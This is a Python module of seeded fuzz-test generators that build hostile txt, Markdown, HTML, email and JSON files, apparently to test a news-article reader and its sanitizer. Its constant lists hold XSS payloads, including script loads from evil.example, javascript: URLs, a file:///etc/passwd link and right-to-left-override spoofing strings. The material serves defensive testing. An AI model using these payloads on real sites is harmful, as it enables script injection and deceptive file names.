"""Generated hostile inputs for the fuzz tests: every generator takes a seeded random.Random.

The word lists and attack strings come first, apart from the code that combines them.
"""
from __future__ import annotations

import json
import random
from email.message import EmailMessage

# ------------------------------------------------------------------ material

BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
CONTROLS = "\x00\x01\x07\x08\x0b\x0c\x1b\x7f\x85\x9b"
OTHER_ODD = "\u00ad\u2028\u2029\u00a0\u3000\ufffd\U0001f600"

WORDS = ("the harbour board approved a new ferry timetable after talks with residents officials said "
         "fares would stay the same minister court ruling energy prices council vote report").split()
SCRIPTS = (
    "مجلس الميناء يوافق على جدول العبارات الجديد",  # Arabic
    "מועצת הנמל מאשרת לוח זמנים חדש",  # Hebrew
    "می\u200cخواهم این را ببینم",  # Persian, with its non-joiner
    "क्\u200dष नगर परिषद ने मतदान किया",  # Devanagari, with a joiner
    "Городской совет одобрил новый бюджет",  # Cyrillic
    "港口委员会批准了新的渡轮时刻表",  # Chinese
    "👩\u200d💻 👨\u200d👩\u200d👧 🏳\ufe0f\u200d🌈",  # emoji joined by ZWJ
)
SPOOFS = ("\u202egnp.exe", "\u202eSWEN CBB\u202c", "B\u200bBC News", "pay\u2060pal", "\u2067abc\u2069def",
          "\u200fRLM\u200e LRM", "\u061cALM", "\ufeffTitle\ufeff")

DANGEROUS_HTML = (
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
    '<a href="javascript:alert(1)">x</a>', '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>', '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>', "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
    '<iframe src="javascript:alert(1)"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>', "<embed src=x.swf>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<style>body{background:url("javascript:alert(1)")}</style>', '<style>@import "http://evil.example/x.css";</style>',
    '<div style="width:expression(alert(1))">x</div>', '<p style="background:url(javascript:alert(1))">x</p>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', '<base href="http://evil.example/">',
    "<link rel=stylesheet href=http://evil.example/x.css>", '<form action="javascript:alert(1)"><input type=submit>',
    "<button formaction=javascript:alert(1)>x</button>", "<video poster=javascript:alert(1)>",
    "<xmp><script>alert(1)</script></xmp>", "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>", '"><script>alert(1)</script>', "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>", "</style><script>alert(1)</script>", "<fuzzcanary data-x=1>c</fuzzcanary>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "{{ 7*7 }}{% raw %}", "${7*7}",
    '<img src="http://127.0.0.1:9/track.png">', "javascript:alert(1)", "vbscript:msgbox(1)",
)
HOSTILE_URLS = (
    "javascript:alert(1)", " javascript:alert(1)", "JAVASCRIPT:alert(1)", "java\nscript:alert(1)",
    "java\u202escript:alert(1)", "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD4=",
    "https://example.org/\u202egnp.exe", "http://ex ample.org/<script>", 'https://example.org/"onmouseover="alert(1)',
    "https://example.org/?q=<script>alert(1)</script>", "//evil.example/x", "file:///etc/passwd",
    "https://[::1", "http://", "https://例え.jp/パス", "https://example.org/" + "a" * 3000, "",
)
ENCODINGS = ("utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "cp1251", "latin-1", "cp1252", "koi8-r",
             "shift_jis", "gb18030", "iso-8859-8", "cp1256")
MIME_CHARSETS = ("utf-8", "x-unknown", "iso-8859-1", "utf-16", "cp1251", "", "utf-7", "bogus\"charset")


# ------------------------------------------------------------------ text pieces


def hostile_piece(rng: random.Random) -> str:
    """One short hostile or odd fragment."""
    kind = rng.randrange(8)
    if kind == 0:
        return rng.choice(DANGEROUS_HTML)
    if kind == 1:
        return rng.choice(SPOOFS)
    if kind == 2:
        return "".join(rng.choice(BIDI + ZERO_WIDTH + CONTROLS + OTHER_ODD) for _ in range(rng.randint(1, 6)))
    if kind == 3:
        return rng.choice(SCRIPTS)
    if kind == 4:
        return rng.choice(HOSTILE_URLS)
    if kind == 5:
        return "".join(chr(rng.randint(1, 0x2FFFF)) for _ in range(rng.randint(1, 20))).encode(
            "utf-8", "replace").decode("utf-8", "replace")
    return " ".join(rng.choice(WORDS) for _ in range(rng.randint(3, 14)))


def hostile_text(rng: random.Random, pieces: int = 12) -> str:
    """A text mixing plain sentences, attack strings, spoofing characters and other scripts."""
    out = []
    for _ in range(pieces):
        out.append(hostile_piece(rng))
        out.append(rng.choice((" ", " ", "\n", "\n\n", ". ", "\r\n", "\t")))
    return "".join(out)


def sentences(rng: random.Random, count: int) -> str:
    """Plain sentences, so that a reader has an article to find among the attacks."""
    return " ".join(" ".join(rng.choice(WORDS) for _ in range(rng.randint(10, 18))).capitalize() + "."
                    for _ in range(count))


def encode(rng: random.Random, text: str) -> bytes:
    """The text in a random encoding, sometimes two encodings spliced together."""
    first = rng.choice(ENCODINGS)
    data = text.encode(first, "replace")
    if rng.random() < 0.3:
        cut = rng.randrange(len(text) + 1)
        data = text[:cut].encode(first, "replace") + text[cut:].encode(rng.choice(ENCODINGS), "replace")
    return data


def mutate(rng: random.Random, data: bytes) -> bytes:
    """Flip, drop, duplicate or truncate a few bytes of a valid file."""
    buf = bytearray(data)
    for _ in range(rng.randint(1, 8)):
        if not buf:
            break
        i = rng.randrange(len(buf))
        op = rng.randrange(4)
        if op == 0:
            buf[i] = rng.randrange(256)
        elif op == 1:
            del buf[i:i + rng.randint(1, 40)]
        elif op == 2:
            buf[i:i] = buf[i:i + rng.randint(1, 200)]
        else:
            del buf[i:]
    return bytes(buf)


# ------------------------------------------------------------------ whole files


def text_file(rng: random.Random, markdown: bool) -> bytes:
    """A .txt/.md file with hostile header values, Markdown-ish markup and a hostile body."""
    head = "".join(f"{rng.choice(('Title', 'Source', 'URL', 'Date', 'Author', 'Language'))}: {hostile_piece(rng)}\n"
                   for _ in range(rng.randint(0, 6)))
    if markdown and rng.random() < 0.5:
        head = f"---\n{head}---\n# {hostile_piece(rng)}\n"
    marks = ("**", "__", "[", "](", "`", "> ", "- ", "#", "![", "<", "~~", "*") if markdown else ("",)
    body = "".join(rng.choice(marks) + hostile_piece(rng) + rng.choice(("\n", " ", "\n\n")) for _ in range(20))
    return encode(rng, head + "\n" + sentences(rng, rng.randint(0, 6)) + "\n\n" + body)


def html_file(rng: random.Random) -> bytes:
    """A web page whose metadata and body carry every dangerous construct."""
    meta = "".join(rng.choice((
        f'<meta property="og:site_name" content="{hostile_piece(rng)}">',
        f'<link rel="canonical" href="{rng.choice(HOSTILE_URLS)}">',
        f'<meta name="author" content="{hostile_piece(rng)}">',
        f'<meta property="article:published_time" content="{hostile_piece(rng)}">',
        f'<meta charset="{rng.choice(MIME_CHARSETS)}">', rng.choice(DANGEROUS_HTML),
    )) for _ in range(rng.randint(0, 6)))
    paras = "".join(f"<p>{sentences(rng, 2)} {hostile_piece(rng)}</p>{rng.choice(DANGEROUS_HTML)}"
                    for _ in range(rng.randint(1, 8)))
    page = (f"<html><head><title>{hostile_piece(rng)}</title>{meta}</head>"
            f"<body><article><h1>{hostile_piece(rng)}</h1>{paras}</article></body></html>")
    return encode(rng, page)


def _mime_part(rng: random.Random, depth: int) -> EmailMessage:
    """A MIME part: text, HTML, a forwarded message or a multipart holding more."""
    part = EmailMessage()
    kind = rng.randrange(4) if depth > 0 else rng.randrange(2)
    if kind == 0:
        part.set_content(sentences(rng, 3) + hostile_text(rng, 6))
    elif kind == 1:
        part.set_content(f"<p>{sentences(rng, 3)}</p>" + "".join(rng.sample(DANGEROUS_HTML, 5)), subtype="html")
    elif kind == 2:
        part.make_mixed()
        for _ in range(rng.randint(1, 3)):
            part.attach(_mime_part(rng, depth - 1))
    else:
        inner = eml_message(rng, depth - 1)
        part.set_content(inner)
    return part


def eml_message(rng: random.Random, depth: int = 3) -> EmailMessage:
    """An email with hostile headers and a random tree of parts."""
    msg = _mime_part(rng, depth)
    for name in ("Subject", "From", "Date"):
        if rng.random() < 0.8:
            value = hostile_piece(rng).replace("\r", " ").replace("\n", " ")
            try:
                msg[name] = value if name != "From" else f'"{value}" <x@example.org>'
            except (ValueError, TypeError):
                msg[name] = "fallback"
    return msg


def eml_file(rng: random.Random) -> bytes:
    """An .eml file: a generated message, sometimes with raw hostile header bytes or a bad charset."""
    try:
        data = eml_message(rng, rng.randint(0, 4)).as_bytes()
    except Exception:  # the email package refuses some combinations; a raw message stands in
        data = b"Subject: x\r\n\r\n" + hostile_text(rng).encode("utf-8", "replace")
    if rng.random() < 0.3:
        charset = rng.choice(MIME_CHARSETS)
        data = (f"Subject: =?{charset}?B?4oCuZ25wLmV4ZQ==?= \u202e\r\nFrom: =?{charset}?Q?=E2=80=AESWEN?= "
                f"<a@b>\r\nContent-Type: text/plain; charset=\"{charset}\"\r\n\r\n").encode("utf-8") + \
            encode(rng, sentences(rng, 4) + hostile_text(rng))
    return data


def _json_value(rng: random.Random, depth: int):
    """A random JSON value, hostile strings among them."""
    kind = rng.randrange(7 if depth > 0 else 5)
    if kind == 0:
        return hostile_text(rng, rng.randint(1, 8))
    if kind == 1:
        return rng.choice((None, True, False, 0, -1, 1e308, 2 ** 70, ""))
    if kind == 2:
        return rng.choice(HOSTILE_URLS)
    if kind in (3, 4):
        return sentences(rng, rng.randint(1, 6)) + hostile_piece(rng)
    if kind == 5:
        return [_json_value(rng, depth - 1) for _ in range(rng.randint(0, 3))]
    return {"name": _json_value(rng, depth - 1)}


def json_file(rng: random.Random) -> bytes:
    """One object or a list of objects with hostile fields of any type."""
    fields = ("title", "headline", "body", "text", "content", "outlet", "source", "url", "link", "published",
              "date", "author", "language")
    items = [{name: _json_value(rng, 2) for name in rng.sample(fields, rng.randint(1, len(fields)))}
             for _ in range(rng.randint(1, 4))]
    for item in items:  # most items carry the two required fields, so most reach the cleaning and finishing
        if rng.random() < 0.7:
            item.update(title=hostile_text(rng, 3), body=sentences(rng, 5) + hostile_text(rng, 8))
    doc = items[0] if len(items) == 1 and rng.random() < 0.5 else items
    return encode(rng, json.dumps(doc, ensure_ascii=rng.random() < 0.5))


def random_bytes(rng: random.Random) -> bytes:
    """Noise, sometimes behind a BOM or a plausible first line."""
    noise = bytes(rng.randrange(256) for _ in range(rng.randint(0, 3000)))
    prefix = rng.choice((b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"Title: x\n", b"<html>", b"{\"title\":",
                         b"From: a@b\r\n"))
    return prefix + noise


def huge_line(rng: random.Random) -> bytes:
    """One very long line: a word without spaces, unclosed markup or a repeated attack."""
    unit = rng.choice(("a", "**", "[", "<", "_", "<p>", "&#106;", "\u202e", "\u200b", "javascript:", "](", "> ",
                       "ش", "<script>"))
    return (sentences(rng, 3) + "\n" + unit * (300_000 // len(unit))).encode("utf-8")


def nested(suffix: str, depth: int) -> bytes:
    """A document nested `depth` levels deep in the format of `suffix`."""
    if suffix == ".json":
        return ("[" * depth + "]" * depth).encode()
    if suffix in (".html", ".htm"):
        return ("<html><body>" + "<div><span>" * depth + "deep text here " * 20 + "</span></div>" * depth).encode()
    if suffix == ".md":
        return ("# Deep\n\n" + "\n".join("> " * i + "- item text " * 3 for i in range(depth))).encode()
    if suffix == ".eml":
        return _nested_mime(depth)
    return ("Title: deep\n\n" + "(" * depth + "text " * 30 + ")" * depth).encode()


def _nested_mime(depth: int) -> bytes:
    """A multipart message nested `depth` levels deep, text at the bottom."""
    head, tail = [b"Subject: nested\r\nFrom: a@b\r\nMIME-Version: 1.0\r\n"], []
    for level in range(depth):
        head.append(f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n'.encode())
        tail.insert(0, f"\r\n--b{level}--\r\n".encode())
    head.append(b"Content-Type: text/plain\r\n\r\n" + b"the harbour board approved a new timetable. " * 10)
    return b"".join(head + tail)


GENERATORS = {
    ".txt": lambda rng: text_file(rng, markdown=False),
    ".md": lambda rng: text_file(rng, markdown=True),
    ".html": html_file,
    ".eml": eml_file,
    ".json": json_file,
}


def reader_case(rng: random.Random, suffix: str) -> bytes:
    """One hostile file for a reader: mostly well-formed hostile files, some mutated, some noise."""
    roll = rng.random()
    if roll < 0.1:
        return random_bytes(rng)
    data = GENERATORS[suffix](rng)
    return mutate(rng, data) if roll < 0.3 else data
